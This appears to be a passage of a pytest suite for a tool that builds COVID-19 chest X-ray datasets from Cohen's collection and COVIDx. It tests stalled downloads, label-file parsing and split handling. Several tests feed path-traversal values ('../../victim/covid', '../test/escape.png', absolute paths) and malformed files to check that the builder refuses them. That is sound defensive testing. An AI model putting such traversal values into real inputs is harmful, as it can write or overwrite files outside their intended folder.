    monkeypatch.setattr(fetch, "BACKOFF", 0)
    monkeypatch.setattr(fetch, "TIMEOUT", (2, 0.5))
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    for name in ["p00-0.jpg", "p01-0.jpg"]:  # large enough to be cut in the middle
        write_image(os.path.join(covid, "images", name), seed=7, size=(300, 300))
    stalled, cut = "images/p00-0.jpg", "images/p01-0.jpg"
    with serve(covid, stall=[stalled], cut=[cut]) as (url, requested):
        code, out, err = build(url, str(tmp_path / "d" / "covid"), "--cache-dir",
                               str(tmp_path / "cache"), "--limit", "30")
    assert code == 0, err
    assert sorted(err.splitlines()) == [  # in --limit's seeded order
        f"[WARNING] not using {url}{stalled}: no answer within 0.5 s, 3 retries",
        f"[WARNING] not using {url}{cut}: the download broke off (ChunkedEncodingError)"]
    assert len(os.listdir(tmp_path / "d" / "covid")) == 28 and "missing files: 2" in out
    # nothing of either is kept, and no temporary file is left in the cache
    cached = [name for _, _, names in os.walk(tmp_path / "cache") for name in names]
    assert "p00-0.jpg" not in cached and "p01-0.jpg" not in cached
    assert not [name for name in cached if ".tmp" in name]


# ---------------------------------------------------------------------------------------------
# COVIDx
# ---------------------------------------------------------------------------------------------


def write_covidx(root, version="cxr2"):
    """A COVIDx-shaped folder: train/ and test/ images, and their label files (patient id, file
    name, class, source), in CXR-2's classes or the older three."""
    classes = ["positive", "negative"] if version == "cxr2" else ["COVID-19", "normal",
                                                                    "pneumonia"]
    lines = {"train": [], "test": []}
    for split, per_class in (("train", 3), ("test", 2)):
        for c, label in enumerate(classes):
            for i in range(per_class):
                name = f"{split}-{label}-{i}.png"
                write_image(str(root / split / name), seed=100 * c + 10 * i + len(split),
                            size=(40, 40))
                lines[split].append(f"{split}{c}{i} {name} {label} {'rsna' if c else 'cohen'}")
    # a line of another shape, one that climbs out of its folder, one whose file is missing
    lines["train"] += ["not enough fields", "p1 ../test/escape.png positive cohen",
                       f"p2 gone.png {classes[0]} cohen"]
    names = {"cxr2": ("train.txt", "test.txt"), "old": ("train_COVIDx5.txt", "test_COVIDx5.txt")}
    for split, name in zip(("train", "test"), names[version]):
        (root / name).write_text("\n".join(lines[split]) + "\n")
    return classes


@pytest.mark.parametrize("version", ["cxr2", "old"])
def test_covidx_builds_train_and_test_apart_with_patients_and_sources(tmp_path, version):
    covidx = tmp_path / "COVIDx"
    classes = write_covidx(covidx, version)
    out = tmp_path / "out"
    code, stdout, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx),
                                                            "--output", str(out)])
    assert code == 0, err
    for split, per_class in (("train", 3), ("test", 2)):
        assert sorted(os.listdir(out / split)) == sorted([*classes, "manifest.csv"])
        for label in classes:
            assert sorted(os.listdir(out / split / label)) == [
                f"{split}-{label}-{i}.png" for i in range(per_class)]
        with open(out / split / "manifest.csv", newline="") as f:
            rows = {row["file"]: row for row in csv.DictReader(f)}
        assert len(rows) == per_class * len(classes)
        for c, label in enumerate(classes):
            row = rows[f"{label}/{split}-{label}-0.png"]
            assert row["class"] == label and row["patient_id"] == f"{split}{c}0"
            assert row["source"] == ("rsna" if c else "cohen")
    # the test split never joins the training folder, and the refused lines copy nothing
    assert not any("test-" in name for _, _, names in os.walk(out / "train") for name in names)
    assert "escape.png" not in str(sorted(os.walk(out)))
    assert err.count("[WARNING]") == 3  # two lines left out, one missing file


def test_covidx_output_trains_by_patient_and_keeps_the_test_split_external(tmp_path):
    """What the builder writes is what train_covid19.py takes: --split patient reads the
    manifest, and the official test split is the external test."""
    covidx = tmp_path / "COVIDx"
    write_covidx(covidx)
    out = tmp_path / "out"
    assert run_main(build_covid_dataset.main, ["--covidx", str(covidx), "--output",
                                               str(out)])[0] == 0
    from covid19xray.layout import load_dataset
    from covid19xray.splits import patients_of

    images, paths, _ = load_dataset(str(out / "train"))
    images.close()
    assert patients_of(str(out / "train"), paths) is not None
    assert all(os.path.basename(p).startswith("train-") for p in paths)


@pytest.mark.parametrize("argv, phrase", [
    (["--output", "o"], "give one of --covid (Cohen's collection) and --covidx (COVIDx)"),
    (["--covid", "c", "--covidx", "x", "--output", "o"], "give one of --covid"),
    (["--covidx", "x", "--output", "o", "--limit", "3"], "--limit select rows of Cohen's"),
])
def test_covidx_flags_that_cannot_go_together_are_a_usage_error(tmp_path, argv, phrase):
    code, _, err = run_main(build_covid_dataset.main, argv)
    assert_one_line_error(code, err, "build_covid_dataset.py", phrase, exit_code=2)


def covidx_case(tmp_path, train_lines, test_text=None):
    """The issue's setup: one image in train/, one in test/, and the label files given."""
    covidx = tmp_path / "cx"
    write_image(str(covidx / "train" / "a.png"), seed=1, size=(40, 40))
    write_image(str(covidx / "train" / "b.png"), seed=2, size=(40, 40))
    write_image(str(covidx / "test" / "t.png"), seed=3, size=(40, 40))
    (covidx / "train.txt").write_text("\n".join(train_lines) + "\n")
    if test_text is None:
        (covidx / "test.txt").write_text("p9 t.png negative src\n")
    elif isinstance(test_text, bytes):
        (covidx / "test.txt").write_bytes(test_text)
    return covidx


def everything_under(folder):
    return sorted(os.path.relpath(os.path.join(root, name), folder)
                  for root, _, names in os.walk(folder) for name in names)


@pytest.mark.parametrize("label", ["../../escaped", "..", ".", "COVID/19", "/abs/elsewhere",
                                   "../../victim/covid", "a\\b"])
def test_a_covidx_class_that_is_not_a_plain_folder_name_is_left_out(tmp_path, label):
    if label.startswith("/abs"):
        label = str(tmp_path / "abs")
    covidx = covidx_case(tmp_path, [f"p1 a.png {label} src", "p2 b.png positive src"])
    out = tmp_path / "o" / "ds"
    (tmp_path / "victim" / "covid").mkdir(parents=True)
    before = everything_under(tmp_path)
    code, stdout, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx),
                                                            "--output", str(out)])
    assert code == 0, err
    assert f"train.txt, line 1: the class {label!r} is not one plain folder name; left out" in err
    # only the good row, and only inside --output
    added = sorted(set(everything_under(tmp_path)) - set(before))
    assert added == ["o/ds/test/manifest.csv", "o/ds/test/negative/t.png",
                     "o/ds/train/manifest.csv", "o/ds/train/positive/b.png"]


def test_covidx_refuses_an_output_that_contains_its_source(tmp_path):
    covidx = covidx_case(tmp_path / "p", ["p1 a.png positive src"])
    before = everything_under(tmp_path)
    code, _, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx), "--output",
                                                       str(tmp_path / "p")])
    assert_one_line_error(code, err, "build_covid_dataset.py", "contains --covidx")
    assert everything_under(tmp_path) == before


def test_a_covidx_label_file_that_is_a_fifo_is_refused_not_waited_on(tmp_path):
    covidx = covidx_case(tmp_path, ["p1 a.png positive src"])
    (covidx / "train.txt").unlink()
    os.mkfifo(covidx / "train.txt")
    code, _, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx), "--output",
                                                       str(tmp_path / "o")])
    assert_one_line_error(code, err, "build_covid_dataset.py", "train.txt",
                          "is not a regular file")
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("content, phrase", [
    (bytes(random.Random(0).getrandbits(8) for _ in range(200_000)), "is not UTF-8 text"),
    (b"p9 t.png negative src\n\0\0\0\n", "holds NUL characters"),
    (b"p9 t.png negative " + b"s" * 5000 + b"\n", "has a line of 5,018 characters"),
])
def test_a_covidx_label_file_that_is_not_text_is_refused_in_one_line(tmp_path, content,
                                                                      phrase):
    covidx = covidx_case(tmp_path, ["p1 a.png positive src"], test_text=content)
    code, stdout, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx),
                                                            "--output", str(tmp_path / "o")])
    assert_one_line_error(code, err, "build_covid_dataset.py", "test.txt", phrase)
    assert not (tmp_path / "o").exists()


def test_covidx_warnings_are_capped_and_it_never_points_to_a_folder_it_did_not_make(tmp_path):
    covidx = covidx_case(tmp_path, ["p1 a.png positive src"],
                         test_text=b"".join(b"bad line %d\n" % i for i in range(500)))
    code, stdout, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx),
                                                            "--output", str(tmp_path / "o")])
    assert code == 0, err
    lines = err.splitlines()
    assert len(lines) == 21 and lines[-1].endswith("test.txt: and 480 more line(s) left out")
    assert "[INFO] COVIDx test: 0 labelled image(s), 500 line(s) left out" in stdout
    assert "--external" not in stdout and not (tmp_path / "o" / "test").exists()
    assert f"[INFO] COVIDx train is in {tmp_path / 'o' / 'train'}" in stdout


def test_a_covidx_bom_is_the_encoding_marker_so_a_patient_in_both_splits_is_found(tmp_path):
    covidx = covidx_case(tmp_path, ["p1 a.png positive src"],
                         test_text="\ufeffp1 t.png negative src\n".encode())
    code, stdout, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx),
                                                            "--output", str(tmp_path / "o")])
    assert code == 0, err
    assert "[WARNING] 1 patient(s) have images in both of COVIDx's splits (src:p1)" in err
    with open(tmp_path / "o" / "test" / "manifest.csv", newline="") as f:
        assert [row["patient_id"] for row in csv.DictReader(f)] == ["p1"]


def test_a_covidx_file_listed_under_two_classes_is_left_out_of_both(tmp_path):
    covidx = covidx_case(tmp_path, ["p1 a.png positive src", "p2 b.png negative src",
                                    "p1 a.png negative src"])
    code, stdout, err = run_main(build_covid_dataset.main, ["--covidx", str(covidx),
                                                            "--output", str(tmp_path / "o")])
    assert code == 0, err
    for number in (1, 3):
        assert (f"train.txt, line {number}: 'a.png' is listed under 2 classes (negative, "
                "positive); left out") in err
    assert everything_under(tmp_path / "o" / "train") == ["manifest.csv", "negative/b.png"]


def test_a_local_metadata_csv_is_read_with_the_bound_a_download_has(tmp_path, monkeypatch):
    """A 600 MB file was read whole; now past the bound (made small here) it is one line."""
    checkout = tmp_path / "covid"
    (checkout / "images").mkdir(parents=True)
    (checkout / "metadata.csv").write_text("finding,view,filename\n" + "COVID-19,PA,x.jpg\n" * 100)
    monkeypatch.setattr(cohen, "METADATA_BYTES", 1000)
    code, _, err = run_main(build_covid_dataset.main, ["--covid", str(checkout), "--output",
                                                       str(tmp_path / "out" / "covid")])
    assert_one_line_error(code, err, "build_covid_dataset.py", "metadata.csv' is larger than")
    assert not (tmp_path / "out").exists()
